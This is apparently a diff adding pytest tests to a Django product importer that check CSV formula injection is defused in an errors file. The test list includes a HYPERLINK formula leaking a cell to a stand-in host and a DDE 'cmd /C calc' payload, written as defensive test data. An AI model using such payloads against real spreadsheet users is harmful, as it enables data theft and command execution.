@@ -9,9 +9,12 @@ from typing import NamedTuple
 import pytest
 from django.core.management import CommandError, call_command
 from django.db import IntegrityError, OperationalError
+from hypothesis import given
+from hypothesis import strategies as st
 
 from catalog.importing import run as import_run
 from catalog.importing import save
+from catalog.importing.formulas import guarded, unguarded
 from catalog.models import Brand, Category, Product
 
 pytestmark = pytest.mark.django_db
@@ -177,6 +180,44 @@ def test_refused_rows_go_to_the_errors_file_as_they_were_and_can_be_mended(tmp_p
     assert rows[2][1:] == ["5", "the slug 'lamp' is used already in line 2", "Lamp", "3", "green"]
     errors.write_text(errors.read_text(encoding="utf-8").replace('"1,5"', "1.50"), encoding="utf-8")
     assert run(errors).summary[0] == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    *("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "  =1+1", "＝1+1", "'=1+1", "''-x", "\r=1"),
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_errors_file_has_no_formulas_and_a_mended_row_goes_in_as_it_was(tmp_path, formula):
+    cell = formula.replace('"', '""')
+    path = write(tmp_path, f'name,price,description,"{cell}"', f'"{cell}","{cell}","{cell}","{cell}"')
+    errors = tmp_path / "errors.csv"
+    assert run(path, errors=errors).summary == (0, 0, 0, 1)
+    with errors.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))
+    for shown in (rows[0][6], *rows[1][3:]):
+        assert shown == f"'{formula}"
+    rows[1][4] = "1.50"
+    with errors.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows(rows)
+    assert run(errors).summary == (1, 0, 0, 0)
+    product = Product.objects.get()
+    assert (product.name, product.description) == (formula.strip(), formula.replace("\r", "\n").strip())
+
+
+def test_numbers_and_apostrophes_in_other_files_stay_as_they_are(tmp_path):
+    path = write(tmp_path, "name,price,quantity,sku", "'-x,1,2,'=5", "Lamp,1,-5,+7")
+    errors = tmp_path / "errors.csv"
+    assert run(path, errors=errors).summary == (1, 0, 0, 1)
+    assert Product.objects.get().name == "'-x"
+    assert errors.read_text(encoding="utf-8").splitlines()[1].endswith("Lamp,1,-5,+7")
+
+
+@given(st.text())
+def test_a_guard_comes_off_as_it_went_on(cell):
+    assert unguarded(guarded(cell)) == cell
+    assert guarded(cell) == cell or guarded(cell).startswith("'")
 
 
 def test_the_errors_file_has_the_columns_of_all_files(tmp_path):
